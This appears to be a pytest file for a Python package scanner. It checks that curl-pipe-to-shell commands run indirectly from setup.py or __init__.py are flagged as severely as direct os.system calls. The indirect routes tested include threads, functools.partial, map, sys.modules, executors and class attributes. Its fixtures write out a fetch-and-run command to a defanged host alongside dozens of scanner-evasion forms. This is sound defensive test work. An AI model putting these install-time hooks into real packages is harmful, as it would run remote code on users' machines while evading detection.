"""Sinks called indirectly: a callable handed to something that calls it is judged as a
direct call of it with the arguments it is given; sys.modules, operator.methodcaller, a
table of functions and a class attribute name the sink they hold. A thread class's run()
runs where its start() is called, a callable kept in self.attr where it is called, and a
sink's arguments given by keyword are judged as positional ones.

Every sample is defanged (example.invalid hosts) and only parsed, never run.
"""

from __future__ import annotations

import pytest

from pipwarden.findings import Severity
from pipwarden.scan.engine import FileContext, analyse_member

C = '"curl http://example.invalid/x | sh"'


def judged(body: str, name: str = "x-1.0/setup.py", kind: str = "sdist") -> dict[str, str]:
    """rule -> highest severity label for a file holding `body`."""
    source = "from setuptools import setup\n" + body + 'setup(name="x")\n'
    out: dict[str, Severity] = {}
    for f in analyse_member(FileContext(name, kind, kind == "wheel"), source.encode()):
        out[f.rule] = max(out.get(f.rule, f.severity), f.severity)
    return {rule: sev.label for rule, sev in out.items()}


DIRECT = judged(f"import os\nos.system({C})\n")

# (form, a setup.py body running the command through it)
INDIRECT = [
    ("sys-modules-subscript", f'import sys\nsys.modules["os"].system({C})\n'),
    ("sys-modules-get", f'import sys, subprocess\nsys.modules.get("os").system({C})\n'),
    ("atexit", f"import atexit, os\natexit.register(os.system, {C})\n"),
    ("thread-target-args", f"import threading, os\nthreading.Thread(target=os.system, args=({C},)).start()\n"),
    ("process-target", f"import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=[{C}]).start()\n"),
    ("timer", f"import threading, os\nthreading.Timer(1.0, os.system, args=({C},)).start()\n"),
    ("partial-bound", f"import functools, os\nfunctools.partial(os.system, {C})()\n"),
    ("partial-called", f"from functools import partial\nimport os\nrun = partial(os.system)\nrun({C})\n"),
    ("partial-handed-to-atexit", f"import atexit, functools, os\natexit.register(functools.partial(os.system, {C}))\n"),
    ("methodcaller-stored", f'import operator, os\nrun = operator.methodcaller("system", {C})\nrun(os)\n'),
    ("map", f"import os\nlist(map(os.system, [{C}]))\n"),
    ("map-of-a-variable", f"import os\ncmds = ({C},)\nlist(map(os.system, cmds))\n"),
    ("starmap", f"import itertools, os\nlist(itertools.starmap(os.system, [({C},)]))\n"),
    ("methodcaller", f'import operator, os\noperator.methodcaller("system", {C})(os)\n'),
    ("dict-table", f'import os\ntable = {{"run": os.system}}\ntable["run"]({C})\n'),
    ("dict-table-get", f'import os\ntable = {{"run": os.system}}\ntable.get("run")({C})\n'),
    ("class-attribute", f"import os\nclass K:\n    run = staticmethod(os.system)\nK.run({C})\n"),
    ("executor-submit", f"import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(os.system, {C})\n"),
    ("executor-map", f"import os\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().map(os.system, [{C}])\n"),
    ("run-in-executor", f"import asyncio, os\nasyncio.get_event_loop().run_in_executor(None, os.system, {C})\n"),
    ("call-later", f"import asyncio, os\nasyncio.get_event_loop().call_later(1, os.system, {C})\n"),
    ("sched-enter", f"import sched, os, time\ns = sched.scheduler(time.time)\ns.enter(1, 1, os.system, argument=({C},))\ns.run()\n"),
    ("start-new-thread", f"import _thread, os\n_thread.start_new_thread(os.system, ({C},))\n"),
    ("pool-apply-async", f"import multiprocessing, os\nmultiprocessing.Pool().apply_async(os.system, ({C},))\n"),
    ("thread-lambda", f"import threading, os\nthreading.Thread(target=lambda c: os.system(c), args=({C},)).start()\n"),
]  # fmt: skip


def test_the_direct_call_is_critical() -> None:
    assert DIRECT.get("download-execute.remote-command") == "critical"


@pytest.mark.parametrize(("body",), [f[1:] for f in INDIRECT], ids=[f[0] for f in INDIRECT])
def test_indirect_call_is_judged_as_the_direct_one(body: str) -> None:
    assert judged(body) == DIRECT


def test_subprocess_through_sys_modules_with_shell() -> None:
    found = judged(f'import sys\nsys.modules.get("subprocess").call({C}, shell=True)\n')
    assert found.get("download-execute.remote-command") == "critical"


def test_keyword_arguments_a_thread_passes_on() -> None:
    direct = judged(f"import subprocess\nsubprocess.run(args={C}, shell=True)\n")
    handed = judged(
        "import subprocess, threading\n"
        f'threading.Thread(target=subprocess.run, kwargs={{"args": {C}, "shell": True}}).start()\n'
    )
    assert handed == direct
    assert direct.get("download-execute.remote-command") == "critical"


def test_arguments_a_thread_passes_to_a_local_function() -> None:
    # The helper's parameter reaches os.system: the command given to the thread runs.
    body = f"import os, threading\ndef go(c):\n    os.system(c)\nthreading.Thread(target=go, args=({C},)).start()\n"
    assert judged(body).get("download-execute.remote-command") == "critical"


def judged_on_import(body: str) -> dict[str, str]:
    """rule -> highest severity label for a package's __init__.py holding `body`."""
    return judged(body, name="pkg/__init__.py", kind="wheel")


# (form, a body running the command through a class, a stored callable or a keyword)
CLASSES_AND_KEYWORDS = [
    ("thread-subclass", f"import threading, os\nclass Grab(threading.Thread):\n    def run(self):\n        os.system({C})\nGrab().start()\n"),
    ("thread-subclass-in-a-variable", f"from threading import Thread\nimport os\nclass Grab(Thread):\n    def run(self):\n        os.system({C})\nt = Grab()\nt.daemon = True\nt.start()\n"),
    ("process-subclass-of-a-subclass", f"import multiprocessing, os\nclass Base(multiprocessing.Process):\n    pass\nclass Grab(Base):\n    def run(self):\n        os.system({C})\nGrab().start()\n"),
    ("thread-that-starts-itself", f"import threading, os\nclass Grab(threading.Thread):\n    def __init__(self):\n        threading.Thread.__init__(self)\n        self.start()\n    def run(self):\n        os.system({C})\nGrab()\n"),
    ("thread-started-by-a-function-called-on-load", f"import threading, os\nclass Grab(threading.Thread):\n    def run(self):\n        os.system({C})\ndef main():\n    Grab().start()\nmain()\n"),
    ("partial-kept-in-an-attribute", f"import functools, os\nclass K:\n    def __init__(self):\n        self.p = functools.partial(os.system, {C})\n    def go(self):\n        self.p()\nK().go()\n"),
    ("sink-kept-in-an-attribute", f"import os\nclass K:\n    def __init__(self):\n        self.run = os.system\n    def go(self):\n        self.run({C})\nK().go()\n"),
    ("attrgetter", f'import operator, os\noperator.attrgetter("system")(os)({C})\n'),
    ("attrgetter-stored", f'import operator, os\nget = operator.attrgetter("system")\nget(os)({C})\n'),
    ("os-system-keyword", f"import os\nos.system(command={C})\n"),
    ("subprocess-run-keyword", f"import subprocess\nsubprocess.run(args={C}, shell=True)\n"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("body",), [f[1:] for f in CLASSES_AND_KEYWORDS], ids=[f[0] for f in CLASSES_AND_KEYWORDS]
)
def test_classes_stored_callables_and_keywords_are_judged_as_the_direct_call(body: str) -> None:
    direct = f"import os\nos.system({C})\n"
    if "subprocess" in body:
        direct = f"import subprocess\nsubprocess.run({C}, shell=True)\n"
    assert judged(body) == judged(direct)
    assert judged_on_import(body) == judged_on_import(direct)


MILD = "import os\nos.system('whoami')\n"  # a program, no download: context decides


@pytest.mark.parametrize(
    ("form", "body"),
    [
        ("thread-subclass", "import threading, os\nclass G(threading.Thread):\n    def run(self):\n        os.system('whoami')\nG().start()\n"),
        ("sink-kept-in-an-attribute", "import os\nclass K:\n    def __init__(self):\n        self.r = os.system\n    def go(self):\n        self.r('whoami')\nK().go()\n"),
        ("os-system-keyword", "import os\nos.system(command='whoami')\n"),
    ],
    ids=["thread-subclass", "sink-kept-in-an-attribute", "os-system-keyword"],
)  # fmt: skip
def test_the_context_of_the_call_site_sets_the_severity(form: str, body: str) -> None:
    # Without a download in the command, only where the call runs makes it a finding:
    # while pip builds the package (high) or when the package is imported (medium).
    assert judged(MILD) == {"install-hook.run-program": "high"}
    assert judged(body) == judged(MILD), form
    assert judged_on_import(body) == {"startup-hook.import-process": "medium"}, form


def test_a_method_called_on_an_instance_is_judged_where_it_is_called() -> None:
    cls = (
        "import requests\n"
        "class Client:\n"
        "    def fetch(self):\n"
        "        return requests.get('https://example.invalid/ip').text\n"
    )
    assert judged_on_import(cls) == {}  # defined, never called
    for call in ("Client().fetch()\n", "c = Client()\nip = c.fetch()\n"):
        assert judged_on_import(cls + call) == {"startup-hook.import-network": "medium"}, call


def test_a_thread_class_never_started_runs_nothing_on_load() -> None:
    body = "import threading, os\nclass G(threading.Thread):\n    def run(self):\n        os.system('whoami')\n"
    assert judged(body) == {}
    assert judged_on_import(body) == {}


def test_a_started_thread_runs_its_own_classs_run_not_another_one() -> None:
    # Methods are summarised by name; a start() of a class whose run() logs does not take
    # on the run() of an unrelated class defined later.
    body = (
        "import logging, os, threading\n"
        "class Quiet(threading.Thread):\n    def run(self):\n        logging.info('tick')\n"
        "class Job:\n    def run(self):\n        os.system('whoami')\n"
        "Quiet().start()\n"
    )
    assert judged_on_import(body) == {}


# (harmless use of the same runners, which must stay as quiet as the direct call)
HARMLESS = [
    ("thread-of-print", 'import threading\nthreading.Thread(target=print, args=("x",)).start()\n'),
    ("partial-of-int", "import functools\nto_int = functools.partial(int, base=2)\nto_int('101')\n"),
    ("map-of-str-strip", "lines = open('requirements.txt').read().splitlines()\nreqs = list(map(str.strip, lines))\n"),
    ("table-of-harmless-functions", 'import os\nops = {"join": os.path.join, "up": str.upper}\nops["join"]("a", "b")\n'),
    ("class-attribute-of-a-harmless-function", "import os\nclass K:\n    j = staticmethod(os.path.join)\nK.j('a', 'b')\n"),
    ("unknown-callable-stays-unknown", f"import threading\nfrom tasks import worker\nthreading.Thread(target=worker, args=({C},)).start()\n"),
    ("methodcaller-of-a-harmless-method", 'import operator\nlower = operator.methodcaller("lower")\nlower("X")\n'),
    ("sys-modules-of-own-module", "import sys\nsys.modules[__name__].VERSION = '1.0'\n"),
    ("thread-subclass-that-logs", "import logging, threading\nclass Tick(threading.Thread):\n    def run(self):\n        logging.info('tick')\nTick().start()\n"),
    ("partial-of-int-kept-in-an-attribute", "import functools\nclass K:\n    def __init__(self):\n        self.p = functools.partial(int, base=2)\n    def go(self):\n        return self.p('101')\nK().go()\n"),
    ("attrgetter-of-a-harmless-object", 'import operator, platform\nname = operator.attrgetter("system")(platform)()\nversion = operator.attrgetter("name")(platform.uname())\n'),
    ("atexit-of-a-cleanup", "import atexit, shutil, tempfile\nd = tempfile.mkdtemp()\natexit.register(shutil.rmtree, d)\n"),
]  # fmt: skip


@pytest.mark.parametrize(("body",), [f[1:] for f in HARMLESS], ids=[f[0] for f in HARMLESS])
def test_harmless_callables_handed_on_stay_clean(body: str) -> None:
    assert judged(body) == {}


def test_a_build_tool_given_by_keyword_is_what_it_is_given_positionally() -> None:
    keyword = 'import subprocess\nsubprocess.run(args=["git", "status"])\n'
    positional = 'import subprocess\nsubprocess.run(["git", "status"])\n'
    assert judged(keyword) == judged(positional) == {"install-hook.process": "medium"}
    assert judged_on_import(keyword) == judged_on_import(positional)
    assert "install-hook.run-program" not in judged(keyword)


def test_a_runner_does_not_judge_more_than_the_direct_call_would() -> None:
    # Running git from a thread in setup.py is what running it directly is, no more.
    direct = judged('import subprocess\nsubprocess.call(["git", "describe"])\n')
    handed = judged(
        "import subprocess, threading\n"
        'threading.Thread(target=subprocess.call, args=(["git", "describe"],)).start()\n'
    )
    assert handed == direct


def test_a_partial_is_judged_where_it_is_called_not_where_it_is_made() -> None:
    # Shortcuts bound at import time (grequests' `get = partial(AsyncRequest, "GET")`)
    # do not run the class on import.
    module = (
        "import functools, requests\n"
        "class AsyncRequest:\n"
        "    def __init__(self, method, url=None):\n"
        "        self.response = requests.request(method, url)\n"
    )
    shortcut = 'get = functools.partial(AsyncRequest, "GET")\n'
    plain = judged(module, name="pkg/__init__.py", kind="wheel")
    assert judged(module + shortcut, name="pkg/__init__.py", kind="wheel") == plain
    called = judged(
        module + shortcut + 'get("https://example.invalid/")\n',
        name="pkg/__init__.py",
        kind="wheel",
    )
    assert called.get("startup-hook.import-network") == "medium"


def test_a_partial_of_a_sink_never_called_is_judged_like_a_lambda() -> None:
    lam = judged(f"import os\nrun = lambda: os.system({C})\n")
    part = judged(f"import functools, os\nrun = functools.partial(os.system, {C})\n")
    assert part == lam
    assert part != DIRECT  # not run while pip builds it
